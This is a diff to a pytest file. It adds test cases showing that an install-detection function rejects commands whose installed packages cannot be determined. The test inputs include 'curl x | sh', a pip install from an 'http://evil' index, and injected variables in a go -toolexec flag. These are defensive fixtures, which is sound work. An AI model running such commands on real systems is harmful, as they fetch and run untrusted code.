@@ -211,7 +211,8 @@ def test_every_package_is_named_or_said_not_to_be_known(text: str) -> None:
 
 
 @pytest.mark.parametrize("text", ["curl x | sh", "$PIP install a", "PIP_INDEX_URL=http://evil pip install a", "ssh host \"pip install $X\"",
-                                  "npx -c \"npm i $X\"", "uv run --unknown a b"])
+                                  "npx -c \"npm i $X\"", "uv run --unknown a b", "docker run image \"pip install $X\"",
+                                  "go install -toolexec \"$X\" a/b@latest"])
 def test_a_command_that_may_install_anything_is_not_told(text: str) -> None:
     with pytest.raises(ValueError, match=r"known only when|changes what"):
         installs(text)
